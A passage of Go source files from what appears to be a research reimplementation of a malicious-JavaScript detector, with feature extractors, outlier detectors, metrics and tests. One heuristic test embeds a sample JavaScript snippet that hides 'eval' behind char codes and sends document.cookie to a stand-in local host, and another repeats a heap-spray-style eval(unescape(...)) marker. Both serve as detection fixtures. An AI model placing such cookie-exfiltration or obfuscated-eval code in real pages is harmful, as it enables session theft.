		collectZozzle(v.Right, "loop-cond", bag)
		collectZozzle(v.Body, "loop-body", bag)
		return
	case *ast.FunctionDeclaration:
		collectZozzle(v.Body, "function", bag)
		return
	case *ast.FunctionExpression:
		collectZozzle(v.Body, "function", bag)
		return
	case *ast.CallExpression:
		collectZozzle(v.Callee, "call", bag)
		for _, a := range v.Arguments {
			collectZozzle(a, "call-arg", bag)
		}
		return
	case *ast.NewExpression:
		collectZozzle(v.Callee, "new", bag)
		for _, a := range v.Arguments {
			collectZozzle(a, "call-arg", bag)
		}
		return
	case *ast.AssignmentExpression:
		collectZozzle(v.Left, "assign-target", bag)
		collectZozzle(v.Right, "assign-value", bag)
		return
	case *ast.TryStatement:
		collectZozzle(v.Block, "try", bag)
		if v.Handler != nil {
			collectZozzle(v.Handler.Body, "catch", bag)
		}
		if v.Finalizer != nil {
			collectZozzle(v.Finalizer, "finally", bag)
		}
		return
	}
	for _, c := range n.Children() {
		collectZozzle(c, context, bag)
	}
}
