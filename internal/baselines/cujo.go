package baselines

import (
	"strings"

	"jsrevealer/internal/js/lexer"
)

// CUJOExtractor reproduces the static part of CUJO (Rieck et al.): the
// token stream is abstracted (identifiers, strings, and numbers collapse to
// placeholder tokens, with strings and numbers bucketed by magnitude) and
// sliding q-grams over the abstracted stream become the features.
type CUJOExtractor struct {
	// Q is the n-gram length; the reference implementation uses 3.
	Q int
}

// Name implements Extractor.
func (*CUJOExtractor) Name() string { return "CUJO" }

// Features implements Extractor.
func (e *CUJOExtractor) Features(src string) ([]float64, error) {
	q := e.Q
	if q <= 0 {
		q = 3
	}
	toks, err := lexer.Tokenize(src)
	if err != nil {
		return nil, err
	}
	abstracted := make([]string, 0, len(toks))
	for _, t := range toks {
		if t.Kind == lexer.EOF {
			break
		}
		abstracted = append(abstracted, abstractToken(t))
	}
	bag := newHashedBag()
	for i := 0; i+q <= len(abstracted); i++ {
		bag.add(strings.Join(abstracted[i:i+q], " "))
	}
	return bag.vector(), nil
}

// abstractToken maps a token to CUJO's abstract alphabet.
func abstractToken(t lexer.Token) string {
	switch t.Kind {
	case lexer.Ident:
		return "ID"
	case lexer.String, lexer.Template:
		return "STR"
	case lexer.Number:
		return "NUM"
	case lexer.Regex:
		return "REGEX"
	default:
		return t.Literal
	}
}
