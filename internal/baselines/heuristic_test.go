package baselines

import (
	"context"
	"strings"
	"testing"
)

func TestHeuristicFlagsDecoderLoop(t *testing.T) {
	h := NewHeuristic()
	malicious := `
var fragments = [101, 118, 97, 108];
var cmd = "";
for (var i = 0; i < fragments.length; i++) {
  cmd += String.fromCharCode(fragments[i]);
}
var runner = new Function(cmd + "('var x = 1;')");
runner();
var beacon = new Image();
beacon.src = "http://127.0.0.1/ping?x=" + escape(document.cookie);
`
	v, err := h.Detect(malicious)
	if err != nil {
		t.Fatalf("Detect: %v", err)
	}
	if !v {
		t.Errorf("decoder-loop sample not flagged (score %.2f)", h.Score(malicious))
	}
}

func TestHeuristicPassesBenignUI(t *testing.T) {
	h := NewHeuristic()
	benign := `
var menuState = { open: false, animating: false, duration: 250 };
function toggleMenu(id) {
  var el = document.getElementById(id);
  if (menuState.animating) { return false; }
  el.style.display = el.style.display === "none" ? "block" : "none";
  return menuState.open;
}
window.addEventListener("load", toggleMenu);
`
	v, err := h.DetectCtx(context.Background(), benign)
	if err != nil {
		t.Fatalf("DetectCtx: %v", err)
	}
	if v {
		t.Errorf("benign UI sample flagged (score %.2f)", h.Score(benign))
	}
}

func TestHeuristicBoundedOnHugeInput(t *testing.T) {
	h := NewHeuristic()
	// 8MB of repeated eval( markers: the scan must stay bounded (capped
	// counts, capped bytes) and still flag the sample.
	huge := strings.Repeat("eval(unescape('%u9090'));", 8<<20/25)
	v, err := h.Detect(huge)
	if err != nil {
		t.Fatalf("Detect: %v", err)
	}
	if !v {
		t.Error("marker-saturated input not flagged")
	}
}

func TestHeuristicNeverErrorsOnGarbage(t *testing.T) {
	h := NewHeuristic()
	for _, src := range []string{"", "\xff\xfe\x00\x01", strings.Repeat("(", 100000)} {
		if _, err := h.Detect(src); err != nil {
			t.Errorf("Detect(%q...): %v", src[:min(8, len(src))], err)
		}
	}
}

func min(a, b int) int {
	if a < b {
		return a
	}
	return b
}
