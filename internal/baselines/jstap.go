package baselines

import (
	"strings"

	"jsrevealer/internal/js/parser"
	"jsrevealer/internal/js/pdg"
)

// JSTAPExtractor reproduces the JSTAP pipeline the paper compares against:
// the PDG code abstraction with n-gram features. The program dependence
// graph (control + data dependences over statements) is traversed and
// n-grams of statement kinds along dependence edges become the features;
// the published system classifies with a random forest.
type JSTAPExtractor struct {
	// N is the n-gram length; 0 means 4.
	N int
}

// Name implements Extractor.
func (*JSTAPExtractor) Name() string { return "JSTAP" }

// Features implements Extractor.
func (e *JSTAPExtractor) Features(src string) ([]float64, error) {
	n := e.N
	if n <= 0 {
		n = 4
	}
	prog, err := parser.Parse(src)
	if err != nil {
		return nil, err
	}
	g := pdg.Build(prog)
	bag := newHashedBag()

	// Adjacency over both edge kinds, with the kind encoded in the step so
	// control and data paths yield distinct n-grams.
	type step struct {
		to   int
		kind string
	}
	adj := make(map[int][]step, len(g.Nodes))
	for _, edge := range g.Edges {
		kind := "C"
		if edge.Kind == pdg.DataDep {
			kind = "D"
		}
		adj[edge.From] = append(adj[edge.From], step{to: edge.To, kind: kind})
	}

	// Enumerate walks of every length from 2 up to n starting at each node,
	// bounded for tractability the same way JSTAP bounds its n-gram
	// extraction. Shorter grams keep small programs featurizable and give
	// the classifier distributional signal alongside the long, specific
	// walks.
	const maxWalksPerNode = 128
	var walk func(id int, acc []string, budget *int)
	walk = func(id int, acc []string, budget *int) {
		acc = append(acc, g.Nodes[id].Kind)
		if len(acc) >= 3 { // node,edge,node at minimum
			bag.add(strings.Join(acc, ">"))
		}
		if len(acc) >= 2*n-1 {
			return
		}
		for _, s := range adj[id] {
			if *budget <= 0 {
				return
			}
			*budget--
			walk(s.to, append(acc, s.kind), budget)
		}
	}
	for id := range g.Nodes {
		budget := maxWalksPerNode
		walk(id, nil, &budget)
	}
	// Unigrams keep very small programs featurizable.
	for _, node := range g.Nodes {
		bag.add(node.Kind)
	}
	return bag.vector(), nil
}
