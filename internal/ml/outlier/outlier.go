// Package outlier implements the outlier-detection stage of JSRevealer's
// feature extraction. The paper uses MetaOD to pick a detector and lands on
// FastABOD (fast angle-based outlier detection); this package provides
// FastABOD plus two alternatives (LOF and kNN distance) and a lightweight
// meta-selector that reproduces MetaOD's role of choosing a detector
// automatically on unlabeled data.
package outlier

import (
	"errors"
	"math"
	"sort"

	"jsrevealer/internal/ml/linalg"
	"jsrevealer/internal/par"
)

// ErrTooFewPoints is returned when a detector needs more points than given.
var ErrTooFewPoints = errors.New("outlier: too few points")

// Detector scores points; higher scores mean more outlying.
type Detector interface {
	// Name identifies the detector.
	Name() string
	// Scores returns one outlier score per input point.
	Scores(points [][]float64) ([]float64, error)
}

// ---------------------------------------------------------------------------
// FastABOD
// ---------------------------------------------------------------------------

// FastABOD is the approximate angle-based outlier detector: for each point,
// the variance of the angles it forms with pairs of its k nearest neighbours
// is computed; small variance indicates an outlier, so the returned score is
// the negated variance (higher = more outlying).
type FastABOD struct {
	// K is the neighbourhood size; defaults to 10 when zero.
	K int
	// Workers bounds the goroutines scoring points; <= 0 means all CPUs.
	// Scores are bit-identical at any worker count (each point's score is
	// an independent function of the frozen input).
	Workers int
}

// Name implements Detector.
func (*FastABOD) Name() string { return "FastABOD" }

// Scores implements Detector. The O(n²·d) neighbour search plus O(n·k²·d)
// angle-variance pass — the training pipeline's wall-clock dominator — fans
// out over Workers goroutines, one point per task.
func (f *FastABOD) Scores(points [][]float64) ([]float64, error) {
	k := f.K
	if k <= 0 {
		k = 10
	}
	n := len(points)
	if n < 3 {
		return nil, ErrTooFewPoints
	}
	if k > n-1 {
		k = n - 1
	}
	scores := make([]float64, n)
	par.For(f.Workers, n, func(i int) {
		nbrs := nearestNeighbors(points, i, k)
		scores[i] = -abofVariance(points, i, nbrs)
	})
	return scores, nil
}

// abofVariance computes the angle-based outlier factor: the variance over
// neighbour pairs (b, c) of the distance-weighted angle at point a.
func abofVariance(points [][]float64, a int, nbrs []int) float64 {
	pa := points[a]
	var vals []float64
	for i := 0; i < len(nbrs); i++ {
		for j := i + 1; j < len(nbrs); j++ {
			ab := diff(points[nbrs[i]], pa)
			ac := diff(points[nbrs[j]], pa)
			nab := linalg.Dot(ab, ab)
			nac := linalg.Dot(ac, ac)
			if nab == 0 || nac == 0 {
				continue
			}
			vals = append(vals, linalg.Dot(ab, ac)/(nab*nac))
		}
	}
	if len(vals) < 2 {
		return 0
	}
	mean := 0.0
	for _, v := range vals {
		mean += v
	}
	mean /= float64(len(vals))
	variance := 0.0
	for _, v := range vals {
		d := v - mean
		variance += d * d
	}
	return variance / float64(len(vals))
}

func diff(a, b []float64) []float64 {
	out := make([]float64, len(a))
	for i := range a {
		out[i] = a[i] - b[i]
	}
	return out
}

// ---------------------------------------------------------------------------
// kNN distance detector
// ---------------------------------------------------------------------------

// KNN scores each point by its distance to its k-th nearest neighbour.
type KNN struct {
	// K is the neighbourhood size; defaults to 5 when zero.
	K int
	// Workers bounds the goroutines scoring points; <= 0 means all CPUs.
	// Scores are bit-identical at any worker count.
	Workers int
}

// Name implements Detector.
func (*KNN) Name() string { return "kNN" }

// Scores implements Detector, fanning the per-point O(n·d + n log n)
// distance rankings out over Workers goroutines.
func (d *KNN) Scores(points [][]float64) ([]float64, error) {
	k := d.K
	if k <= 0 {
		k = 5
	}
	n := len(points)
	if n < 2 {
		return nil, ErrTooFewPoints
	}
	if k > n-1 {
		k = n - 1
	}
	scores := make([]float64, n)
	par.For(d.Workers, n, func(i int) {
		dists := allDistances(points, i)
		sort.Float64s(dists)
		scores[i] = dists[k-1]
	})
	return scores, nil
}

// ---------------------------------------------------------------------------
// LOF
// ---------------------------------------------------------------------------

// LOF is the local outlier factor detector.
type LOF struct {
	// K is the neighbourhood size; defaults to 10 when zero.
	K int
	// Workers bounds the goroutines used per phase; <= 0 means all CPUs.
	// Scores are bit-identical at any worker count.
	Workers int
}

// Name implements Detector.
func (*LOF) Name() string { return "LOF" }

// Scores implements Detector. The three phases (neighbourhoods, local
// reachability density, factor) each fan out over Workers goroutines with a
// barrier between phases, since every phase reads the previous one's
// complete output.
func (d *LOF) Scores(points [][]float64) ([]float64, error) {
	k := d.K
	if k <= 0 {
		k = 10
	}
	n := len(points)
	if n < 3 {
		return nil, ErrTooFewPoints
	}
	if k > n-1 {
		k = n - 1
	}

	nbrs := make([][]int, n)
	kdist := make([]float64, n)
	par.For(d.Workers, n, func(i int) {
		nbrs[i] = nearestNeighbors(points, i, k)
		kdist[i] = linalg.Distance(points[i], points[nbrs[i][len(nbrs[i])-1]])
	})
	// Local reachability density.
	lrd := make([]float64, n)
	par.For(d.Workers, n, func(i int) {
		sum := 0.0
		for _, j := range nbrs[i] {
			reach := math.Max(kdist[j], linalg.Distance(points[i], points[j]))
			sum += reach
		}
		if sum == 0 {
			lrd[i] = math.Inf(1)
		} else {
			lrd[i] = float64(len(nbrs[i])) / sum
		}
	})
	scores := make([]float64, n)
	par.For(d.Workers, n, func(i int) {
		sum := 0.0
		for _, j := range nbrs[i] {
			if math.IsInf(lrd[i], 1) {
				sum += 1
			} else {
				sum += lrd[j] / lrd[i]
			}
		}
		scores[i] = sum / float64(len(nbrs[i]))
	})
	return scores, nil
}

// ---------------------------------------------------------------------------
// Shared neighbour helpers
// ---------------------------------------------------------------------------

func allDistances(points [][]float64, i int) []float64 {
	out := make([]float64, 0, len(points)-1)
	for j := range points {
		if j == i {
			continue
		}
		out = append(out, linalg.Distance(points[i], points[j]))
	}
	return out
}

// nearestNeighbors returns the indices of the k nearest neighbours of point
// i, ordered closest first.
func nearestNeighbors(points [][]float64, i, k int) []int {
	type nd struct {
		idx int
		d   float64
	}
	all := make([]nd, 0, len(points)-1)
	for j := range points {
		if j == i {
			continue
		}
		all = append(all, nd{j, linalg.SquaredDistance(points[i], points[j])})
	}
	sort.Slice(all, func(a, b int) bool {
		if all[a].d != all[b].d {
			return all[a].d < all[b].d
		}
		return all[a].idx < all[b].idx
	})
	if k > len(all) {
		k = len(all)
	}
	out := make([]int, k)
	for j := 0; j < k; j++ {
		out[j] = all[j].idx
	}
	return out
}

// ---------------------------------------------------------------------------
// Filtering and meta-selection
// ---------------------------------------------------------------------------

// Filter removes the highest-scoring fraction of points and returns the
// indices of the kept (inlier) points in their original order.
func Filter(points [][]float64, det Detector, fraction float64) ([]int, error) {
	if fraction <= 0 {
		out := make([]int, len(points))
		for i := range out {
			out[i] = i
		}
		return out, nil
	}
	scores, err := det.Scores(points)
	if err != nil {
		return nil, err
	}
	n := len(points)
	cut := int(float64(n) * fraction)
	if cut >= n {
		cut = n - 1
	}
	order := make([]int, n)
	for i := range order {
		order[i] = i
	}
	sort.Slice(order, func(a, b int) bool {
		if scores[order[a]] != scores[order[b]] {
			return scores[order[a]] > scores[order[b]]
		}
		return order[a] < order[b]
	})
	removed := make(map[int]bool, cut)
	for _, idx := range order[:cut] {
		removed[idx] = true
	}
	kept := make([]int, 0, n-cut)
	for i := 0; i < n; i++ {
		if !removed[i] {
			kept = append(kept, i)
		}
	}
	return kept, nil
}

// SelectDetector plays the role of MetaOD: it scores each candidate detector
// on the unlabeled data using internal criteria and returns the best one.
//
// The criterion is score-separation quality: a good unsupervised detector
// produces a score distribution where a small tail is clearly separated from
// the bulk. We measure the gap between the mean of the top decile and the
// mean of the rest, normalized by the overall standard deviation, and pick
// the detector with the largest normalized gap. On JSRevealer's embedded
// path vectors this consistently selects FastABOD, matching the paper.
func SelectDetector(points [][]float64, candidates []Detector) (Detector, error) {
	if len(candidates) == 0 {
		return nil, errors.New("outlier: no candidate detectors")
	}
	best := candidates[0]
	bestGap := math.Inf(-1)
	for _, det := range candidates {
		scores, err := det.Scores(points)
		if err != nil {
			continue
		}
		gap := separationGap(scores)
		if gap > bestGap {
			bestGap = gap
			best = det
		}
	}
	return best, nil
}

// DefaultCandidates returns the detector pool the meta-selector considers.
func DefaultCandidates() []Detector { return CandidatesWithWorkers(0) }

// CandidatesWithWorkers is DefaultCandidates with an explicit per-detector
// worker bound (<= 0 means all CPUs); selection outcomes are identical at
// any worker count.
func CandidatesWithWorkers(workers int) []Detector {
	return []Detector{
		&FastABOD{Workers: workers},
		&LOF{Workers: workers},
		&KNN{Workers: workers},
	}
}

// separationGap measures how cleanly the top decile of scores separates from
// the rest (z-scored difference of means).
func separationGap(scores []float64) float64 {
	n := len(scores)
	if n < 10 {
		return math.Inf(-1)
	}
	sorted := append([]float64(nil), scores...)
	sort.Float64s(sorted)
	cut := n - n/10
	if cut >= n {
		cut = n - 1
	}
	bulk, tail := sorted[:cut], sorted[cut:]
	if len(tail) == 0 {
		return math.Inf(-1)
	}
	mAll, sAll := meanStd(sorted)
	_ = mAll
	if sAll == 0 {
		return math.Inf(-1)
	}
	mBulk, _ := meanStd(bulk)
	mTail, _ := meanStd(tail)
	return (mTail - mBulk) / sAll
}

func meanStd(v []float64) (mean, std float64) {
	if len(v) == 0 {
		return 0, 0
	}
	for _, x := range v {
		mean += x
	}
	mean /= float64(len(v))
	for _, x := range v {
		d := x - mean
		std += d * d
	}
	std = math.Sqrt(std / float64(len(v)))
	return mean, std
}
