package outlier

import (
	"math/rand"
	"testing"
)

// clusterWithOutlier builds a tight cluster plus one distant point at the
// last index.
func clusterWithOutlier(n int, seed int64) [][]float64 {
	rng := rand.New(rand.NewSource(seed))
	out := make([][]float64, 0, n+1)
	for i := 0; i < n; i++ {
		out = append(out, []float64{rng.Float64(), rng.Float64()})
	}
	out = append(out, []float64{50, 50})
	return out
}

func topScoreIndex(scores []float64) int {
	best := 0
	for i, s := range scores {
		if s > scores[best] {
			best = i
		}
	}
	return best
}

func TestFastABODFindsOutlier(t *testing.T) {
	points := clusterWithOutlier(30, 1)
	det := &FastABOD{K: 8}
	scores, err := det.Scores(points)
	if err != nil {
		t.Fatal(err)
	}
	if len(scores) != len(points) {
		t.Fatalf("scores length = %d", len(scores))
	}
	if topScoreIndex(scores) != len(points)-1 {
		t.Errorf("FastABOD top score at %d, want %d", topScoreIndex(scores), len(points)-1)
	}
}

func TestKNNFindsOutlier(t *testing.T) {
	points := clusterWithOutlier(30, 2)
	scores, err := (&KNN{K: 5}).Scores(points)
	if err != nil {
		t.Fatal(err)
	}
	if topScoreIndex(scores) != len(points)-1 {
		t.Error("kNN missed the planted outlier")
	}
}

func TestLOFFindsOutlier(t *testing.T) {
	points := clusterWithOutlier(30, 3)
	scores, err := (&LOF{K: 8}).Scores(points)
	if err != nil {
		t.Fatal(err)
	}
	if topScoreIndex(scores) != len(points)-1 {
		t.Error("LOF missed the planted outlier")
	}
}

func TestDetectorsRejectTinyInputs(t *testing.T) {
	tiny := [][]float64{{1, 2}}
	for _, det := range DefaultCandidates() {
		if _, err := det.Scores(tiny); err == nil {
			t.Errorf("%s accepted a single point", det.Name())
		}
	}
}

func TestFilterRemovesTopFraction(t *testing.T) {
	points := clusterWithOutlier(19, 4) // 20 points
	kept, err := Filter(points, &KNN{K: 5}, 0.05)
	if err != nil {
		t.Fatal(err)
	}
	if len(kept) != 19 {
		t.Fatalf("kept %d, want 19", len(kept))
	}
	for _, idx := range kept {
		if idx == len(points)-1 {
			t.Error("outlier survived filtering")
		}
	}
	// Kept indices remain sorted (original order).
	for i := 1; i < len(kept); i++ {
		if kept[i] <= kept[i-1] {
			t.Error("kept indices out of order")
		}
	}
}

func TestFilterZeroFractionKeepsAll(t *testing.T) {
	points := clusterWithOutlier(10, 5)
	kept, err := Filter(points, &KNN{}, 0)
	if err != nil {
		t.Fatal(err)
	}
	if len(kept) != len(points) {
		t.Errorf("kept %d, want all %d", len(kept), len(points))
	}
}

func TestSelectDetectorReturnsCandidate(t *testing.T) {
	points := clusterWithOutlier(40, 6)
	det, err := SelectDetector(points, DefaultCandidates())
	if err != nil {
		t.Fatal(err)
	}
	names := map[string]bool{"FastABOD": true, "LOF": true, "kNN": true}
	if !names[det.Name()] {
		t.Errorf("selected unknown detector %q", det.Name())
	}
}

func TestSelectDetectorNoCandidates(t *testing.T) {
	if _, err := SelectDetector(nil, nil); err == nil {
		t.Error("expected error for empty candidate list")
	}
}

func TestDetectorNames(t *testing.T) {
	if (&FastABOD{}).Name() != "FastABOD" || (&LOF{}).Name() != "LOF" || (&KNN{}).Name() != "kNN" {
		t.Error("detector names wrong")
	}
}

func TestScoresDeterministic(t *testing.T) {
	points := clusterWithOutlier(25, 7)
	for _, det := range DefaultCandidates() {
		s1, err := det.Scores(points)
		if err != nil {
			t.Fatal(err)
		}
		s2, _ := det.Scores(points)
		for i := range s1 {
			if s1[i] != s2[i] {
				t.Errorf("%s not deterministic", det.Name())
				break
			}
		}
	}
}
