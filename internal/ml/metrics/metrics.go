// Package metrics computes the binary-classification quality measures the
// paper reports: accuracy, precision, recall, F1, FPR, and FNR, plus the
// confusion matrix they derive from. The positive class is "malicious".
package metrics

import "fmt"

// Confusion is a binary confusion matrix. The positive class is malicious.
type Confusion struct {
	TP, FP, TN, FN int
}

// Add accumulates one prediction into the matrix.
func (c *Confusion) Add(actualPositive, predictedPositive bool) {
	switch {
	case actualPositive && predictedPositive:
		c.TP++
	case actualPositive && !predictedPositive:
		c.FN++
	case !actualPositive && predictedPositive:
		c.FP++
	default:
		c.TN++
	}
}

// Total returns the number of accumulated predictions.
func (c Confusion) Total() int { return c.TP + c.FP + c.TN + c.FN }

// Accuracy returns (TP+TN)/total; 0 when empty.
func (c Confusion) Accuracy() float64 {
	t := c.Total()
	if t == 0 {
		return 0
	}
	return float64(c.TP+c.TN) / float64(t)
}

// Precision returns TP/(TP+FP); 0 when undefined.
func (c Confusion) Precision() float64 {
	if c.TP+c.FP == 0 {
		return 0
	}
	return float64(c.TP) / float64(c.TP+c.FP)
}

// Recall returns TP/(TP+FN); 0 when undefined.
func (c Confusion) Recall() float64 {
	if c.TP+c.FN == 0 {
		return 0
	}
	return float64(c.TP) / float64(c.TP+c.FN)
}

// F1 returns the harmonic mean of precision and recall; 0 when undefined.
func (c Confusion) F1() float64 {
	p, r := c.Precision(), c.Recall()
	if p+r == 0 {
		return 0
	}
	return 2 * p * r / (p + r)
}

// FPR returns FP/(FP+TN), the false-positive rate; 0 when undefined.
func (c Confusion) FPR() float64 {
	if c.FP+c.TN == 0 {
		return 0
	}
	return float64(c.FP) / float64(c.FP+c.TN)
}

// FNR returns FN/(FN+TP), the false-negative rate; 0 when undefined.
func (c Confusion) FNR() float64 {
	if c.FN+c.TP == 0 {
		return 0
	}
	return float64(c.FN) / float64(c.FN+c.TP)
}

// Report bundles the six headline metrics as percentages, the form every
// table in the paper uses.
type Report struct {
	Accuracy, Precision, Recall, F1, FPR, FNR float64
}

// ReportOf converts a confusion matrix into a percentage report.
func ReportOf(c Confusion) Report {
	return Report{
		Accuracy:  c.Accuracy() * 100,
		Precision: c.Precision() * 100,
		Recall:    c.Recall() * 100,
		F1:        c.F1() * 100,
		FPR:       c.FPR() * 100,
		FNR:       c.FNR() * 100,
	}
}

// String renders the report as a compact single line.
func (r Report) String() string {
	return fmt.Sprintf("Acc=%.1f%% P=%.1f%% R=%.1f%% F1=%.1f%% FPR=%.1f%% FNR=%.1f%%",
		r.Accuracy, r.Precision, r.Recall, r.F1, r.FPR, r.FNR)
}

// Average returns the element-wise mean of the reports; zero value for none.
func Average(reports []Report) Report {
	if len(reports) == 0 {
		return Report{}
	}
	var sum Report
	for _, r := range reports {
		sum.Accuracy += r.Accuracy
		sum.Precision += r.Precision
		sum.Recall += r.Recall
		sum.F1 += r.F1
		sum.FPR += r.FPR
		sum.FNR += r.FNR
	}
	n := float64(len(reports))
	return Report{
		Accuracy:  sum.Accuracy / n,
		Precision: sum.Precision / n,
		Recall:    sum.Recall / n,
		F1:        sum.F1 / n,
		FPR:       sum.FPR / n,
		FNR:       sum.FNR / n,
	}
}

// Evaluate builds a confusion matrix from parallel slices of actual and
// predicted labels (true = malicious).
func Evaluate(actual, predicted []bool) (Confusion, error) {
	if len(actual) != len(predicted) {
		return Confusion{}, fmt.Errorf("metrics: %d actuals vs %d predictions", len(actual), len(predicted))
	}
	var c Confusion
	for i := range actual {
		c.Add(actual[i], predicted[i])
	}
	return c, nil
}
