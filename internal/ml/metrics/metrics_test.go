package metrics

import (
	"math"
	"strings"
	"testing"
	"testing/quick"
)

func TestConfusionCounting(t *testing.T) {
	var c Confusion
	c.Add(true, true)   // TP
	c.Add(true, false)  // FN
	c.Add(false, true)  // FP
	c.Add(false, false) // TN
	if c.TP != 1 || c.FN != 1 || c.FP != 1 || c.TN != 1 {
		t.Fatalf("confusion = %+v", c)
	}
	if c.Total() != 4 {
		t.Errorf("Total = %d", c.Total())
	}
	if c.Accuracy() != 0.5 {
		t.Errorf("Accuracy = %v", c.Accuracy())
	}
	if c.Precision() != 0.5 || c.Recall() != 0.5 || c.F1() != 0.5 {
		t.Errorf("P/R/F1 = %v/%v/%v", c.Precision(), c.Recall(), c.F1())
	}
	if c.FPR() != 0.5 || c.FNR() != 0.5 {
		t.Errorf("FPR/FNR = %v/%v", c.FPR(), c.FNR())
	}
}

func TestEmptyConfusionIsZero(t *testing.T) {
	var c Confusion
	for name, v := range map[string]float64{
		"acc": c.Accuracy(), "p": c.Precision(), "r": c.Recall(),
		"f1": c.F1(), "fpr": c.FPR(), "fnr": c.FNR(),
	} {
		if v != 0 {
			t.Errorf("%s on empty = %v", name, v)
		}
	}
}

func TestPerfectClassifier(t *testing.T) {
	c := Confusion{TP: 10, TN: 10}
	if c.Accuracy() != 1 || c.F1() != 1 || c.FPR() != 0 || c.FNR() != 0 {
		t.Errorf("perfect: %+v", ReportOf(c))
	}
}

// TestQuickIdentities property-tests metric identities on random counts.
func TestQuickIdentities(t *testing.T) {
	f := func(tp, fp, tn, fn uint8) bool {
		c := Confusion{TP: int(tp), FP: int(fp), TN: int(tn), FN: int(fn)}
		if c.Total() == 0 {
			return true
		}
		// Accuracy = 1 - (FP+FN)/total.
		want := 1 - float64(c.FP+c.FN)/float64(c.Total())
		if math.Abs(c.Accuracy()-want) > 1e-12 {
			return false
		}
		// Recall = 1 - FNR when defined.
		if c.TP+c.FN > 0 && math.Abs(c.Recall()-(1-c.FNR())) > 1e-12 {
			return false
		}
		// F1 is the harmonic mean: between min and max of P and R.
		p, r := c.Precision(), c.Recall()
		f1 := c.F1()
		if p+r > 0 && (f1 < math.Min(p, r)-1e-12 || f1 > math.Max(p, r)+1e-12) {
			return false
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

func TestEvaluate(t *testing.T) {
	actual := []bool{true, true, false, false}
	pred := []bool{true, false, true, false}
	c, err := Evaluate(actual, pred)
	if err != nil {
		t.Fatal(err)
	}
	if c.TP != 1 || c.FN != 1 || c.FP != 1 || c.TN != 1 {
		t.Errorf("Evaluate = %+v", c)
	}
	if _, err := Evaluate(actual, pred[:2]); err == nil {
		t.Error("length mismatch should error")
	}
}

func TestReportOfScalesToPercent(t *testing.T) {
	r := ReportOf(Confusion{TP: 1, TN: 1})
	if r.Accuracy != 100 || r.F1 != 100 {
		t.Errorf("ReportOf = %+v", r)
	}
	if !strings.Contains(r.String(), "Acc=100.0%") {
		t.Errorf("String = %q", r.String())
	}
}

func TestAverage(t *testing.T) {
	a := Report{Accuracy: 80, F1: 60, FPR: 20}
	b := Report{Accuracy: 100, F1: 80, FPR: 0}
	avg := Average([]Report{a, b})
	if avg.Accuracy != 90 || avg.F1 != 70 || avg.FPR != 10 {
		t.Errorf("Average = %+v", avg)
	}
	if Average(nil) != (Report{}) {
		t.Error("Average(nil) should be zero")
	}
}
