// Package linalg provides the dense vector and matrix helpers used by the
// ML packages. Everything operates on []float64 / [][]float64 to keep the
// hot paths allocation-free and easy to benchmark.
package linalg

import (
	"errors"
	"math"
)

// ErrDimension is returned when operand dimensions do not agree.
var ErrDimension = errors.New("linalg: dimension mismatch")

// Dot returns the inner product of a and b. Panics are avoided: mismatched
// lengths use the shorter prefix, which callers guard against with Check.
func Dot(a, b []float64) float64 {
	n := len(a)
	if len(b) < n {
		n = len(b)
	}
	s := 0.0
	for i := 0; i < n; i++ {
		s += a[i] * b[i]
	}
	return s
}

// Check validates that a and b have equal length.
func Check(a, b []float64) error {
	if len(a) != len(b) {
		return ErrDimension
	}
	return nil
}

// Norm returns the Euclidean norm of v.
func Norm(v []float64) float64 { return math.Sqrt(Dot(v, v)) }

// SquaredDistance returns the squared Euclidean distance between a and b.
func SquaredDistance(a, b []float64) float64 {
	n := len(a)
	if len(b) < n {
		n = len(b)
	}
	s := 0.0
	for i := 0; i < n; i++ {
		d := a[i] - b[i]
		s += d * d
	}
	return s
}

// Distance returns the Euclidean distance between a and b.
func Distance(a, b []float64) float64 { return math.Sqrt(SquaredDistance(a, b)) }

// CosineSimilarity returns the cosine of the angle between a and b, or 0
// when either vector is zero.
func CosineSimilarity(a, b []float64) float64 {
	na, nb := Norm(a), Norm(b)
	if na == 0 || nb == 0 {
		return 0
	}
	return Dot(a, b) / (na * nb)
}

// AddInPlace adds b into a.
func AddInPlace(a, b []float64) {
	n := len(a)
	if len(b) < n {
		n = len(b)
	}
	for i := 0; i < n; i++ {
		a[i] += b[i]
	}
}

// SubInPlace subtracts b from a.
func SubInPlace(a, b []float64) {
	n := len(a)
	if len(b) < n {
		n = len(b)
	}
	for i := 0; i < n; i++ {
		a[i] -= b[i]
	}
}

// ScaleInPlace multiplies every element of a by s.
func ScaleInPlace(a []float64, s float64) {
	for i := range a {
		a[i] *= s
	}
}

// Zero clears v in place. Reused hot-path buffers must be zeroed before
// accumulation to behave identically to freshly allocated ones; the compiler
// lowers this loop to memclr.
func Zero(v []float64) {
	for i := range v {
		v[i] = 0
	}
}

// AXPYInPlace computes a += s*b.
func AXPYInPlace(a []float64, s float64, b []float64) {
	n := len(a)
	if len(b) < n {
		n = len(b)
	}
	for i := 0; i < n; i++ {
		a[i] += s * b[i]
	}
}

// Clone returns a copy of v.
func Clone(v []float64) []float64 {
	out := make([]float64, len(v))
	copy(out, v)
	return out
}

// Mean returns the element-wise mean of the rows; returns nil for no rows.
func Mean(rows [][]float64) []float64 {
	if len(rows) == 0 {
		return nil
	}
	out := make([]float64, len(rows[0]))
	for _, r := range rows {
		AddInPlace(out, r)
	}
	ScaleInPlace(out, 1/float64(len(rows)))
	return out
}

// Softmax writes the softmax of logits into out (allocating when out is nil)
// using the max-subtraction trick for numerical stability.
func Softmax(logits []float64, out []float64) []float64 {
	if out == nil {
		out = make([]float64, len(logits))
	}
	maxv := math.Inf(-1)
	for _, v := range logits {
		if v > maxv {
			maxv = v
		}
	}
	sum := 0.0
	for i, v := range logits {
		e := math.Exp(v - maxv)
		out[i] = e
		sum += e
	}
	if sum == 0 {
		for i := range out {
			out[i] = 1 / float64(len(out))
		}
		return out
	}
	for i := range out {
		out[i] /= sum
	}
	return out
}

// ArgMax returns the index of the largest element (first on ties), or -1
// for an empty slice.
func ArgMax(v []float64) int {
	if len(v) == 0 {
		return -1
	}
	best := 0
	for i := 1; i < len(v); i++ {
		if v[i] > v[best] {
			best = i
		}
	}
	return best
}

// MinMaxNormalize maps v linearly onto [0,1]; a constant vector maps to all
// zeros, matching the paper's Equation 6 convention.
func MinMaxNormalize(v []float64) []float64 {
	out := make([]float64, len(v))
	if len(v) == 0 {
		return out
	}
	minV, maxV := v[0], v[0]
	for _, x := range v {
		if x < minV {
			minV = x
		}
		if x > maxV {
			maxV = x
		}
	}
	if maxV == minV {
		return out
	}
	span := maxV - minV
	for i, x := range v {
		y := (x - minV) / span
